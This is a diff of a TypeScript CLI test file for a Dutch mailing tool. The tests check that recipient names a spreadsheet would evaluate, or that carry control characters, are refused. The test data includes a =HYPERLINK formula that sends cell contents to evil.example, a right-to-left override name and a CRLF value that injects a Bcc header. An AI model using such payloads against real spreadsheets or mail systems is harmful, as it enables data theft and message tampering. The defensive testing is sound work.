@@ -125,12 +125,13 @@ describe('every expected error is one line with what to do, never a stack', () =
 
   it('ends quietly when the reader of its output has gone (rapportbode runs | head -1)', async () => {
     // Act: the reading end closed before the CLI writes a byte, so every write meets EPIPE.
-    const results: CliResult[] = [];
-    for (const args of [['runs'], ['recipients', 'export'], ['deliveries', '2026-09-final']]) {
-      const cli = startCli(args, stack.env);
-      cli.child.stdout?.destroy();
-      results.push(await cli.result);
-    }
+    const results: CliResult[] = await Promise.all(
+      [['runs'], ['recipients', 'export'], ['deliveries', '2026-09-final']].map((args) => {
+        const cli = startCli(args, stack.env);
+        cli.child.stdout?.destroy();
+        return cli.result;
+      }),
+    );
     // Assess
     for (const result of results) {
       expect(result.code, result.stderr).toBe(0);
@@ -228,23 +229,25 @@ describe('recipients import: nothing wiped or garbled without a question', () =>
 });
 
 describe('nothing a spreadsheet would evaluate gets in or out', () => {
-  it.each([
-    ['a formula', '=HYPERLINK("http://evil.example/?x="&A1;"klik")', 'begint met =, + of @'],
-    ['an @-function', '@SUM(1+1)', 'begint met =, + of @'],
-    ['a right-to-left override', 'Jan\u202eznasnaJ', 'leesrichting'],
-  ])('refuses %s as a name on add and on import, and writes nothing', async (_, name, why) => {
+  // Each rule of a name, per character and per path (add, import), is a unit test (test/unit/recipient-validation.test.ts); here both paths through the CLI.
+  it('refuses a name a spreadsheet would evaluate, one that turns the reading direction or one with CR/LF (header injection), on add and on import, and writes nothing', async () => {
     // Prepare
     const { cli, tableName } = await listOf([]);
     const before = await scanTable(tableName);
-    const csv = file('naam.csv', `gemeente;rol;naam;email\nTiel;ab-lid;"${name.replace(/"/g, '""')}";jan@tiel.example\n`);
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', 'Jan\u202eznasnaJ', 'Jan\r\nBcc: iedereen@example.org'];
+    const csv = file('namen.csv', `gemeente;rol;naam;email\n${names.map((name, i) => `Tiel;ab-lid;"${name.replace(/"/g, '""')}";jan${i}@tiel.example`).join('\n')}\n`);
     // Act
-    const added = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'AB-lid', '--naam', name, '--email', 'jan@tiel.example');
+    const formula = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'AB-lid', '--naam', names[0] as string, '--email', 'jan@tiel.example');
+    const crlf = await cli('recipients', 'add', '--gemeente', 'Tiel', '--rol', 'ab-lid', '--naam', names[3] as string, '--email', 'jan@tiel.example');
     const imported = await cli('recipients', 'import', csv);
     // Assess
-    expect(expectOneLineError(added)).toContain(`de ontvanger is niet toegevoegd: --naam: de naam ${why.startsWith('begint') ? why : 'bevat een teken dat de leesrichting omdraait'}`);
+    expect(expectOneLineError(formula)).toContain('de ontvanger is niet toegevoegd: --naam: de naam begint met =, + of @');
+    expect(expectOneLineError(crlf)).toContain('--naam: de naam bevat een regeleinde of een ander stuurteken');
     expect(imported.code).toBe(1);
-    expect(imported.stderr).toContain(`rij 2, kolom naam: de naam`);
-    expect(imported.stderr).toContain(why);
+    expect(imported.stderr).not.toMatch(STACK_LINE);
+    expect(imported.stderr).toContain('rijen 2 en 3, kolom naam: de naam begint met =, + of @');
+    expect(imported.stderr).toContain('rij 4, kolom naam: de naam bevat een teken dat de leesrichting omdraait');
+    expect(imported.stderr).toContain('rij 5, kolom naam: de naam bevat een regeleinde');
     expect(await scanTable(tableName)).toEqual(before);
   });
 
